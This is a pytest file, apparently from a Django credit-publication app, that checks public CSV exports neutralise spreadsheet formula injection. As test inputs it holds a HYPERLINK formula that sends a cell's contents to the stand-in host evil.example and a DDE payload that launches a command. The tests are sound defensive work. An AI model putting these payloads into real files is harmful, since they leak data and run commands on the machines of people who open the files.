"""No CSV download lets a spreadsheet run a formula from someone's text (finding 5)."""

import csv
import io

import pytest

from credit.models import Publication
from intake.spreadsheet import csv_line, spreadsheet_cell
from tests.credit.test_public import organisations  # noqa: F401  the published fixture

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["blacklist", "penalties"])
def test_a_formula_in_a_published_name_reaches_the_public_csv_as_text(client, organisations, kind):  # noqa: F811
    Publication.objects.update(public_name=FORMULA, summary="+1+cmd|' /C calc'!A0", legal_basis="@SUM(1)")
    cells = [cell for row in rows(client.get(f"/credit/export/{kind}.csv"))[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert "'+1+cmd|' /C calc'!A0" in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("Acme Ltd", "Acme Ltd"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


def test_csv_line_quotes_and_escapes():
    assert csv_line(["=x", 'a "b"', None]) == '\'=x,"a ""b""",\r\n'
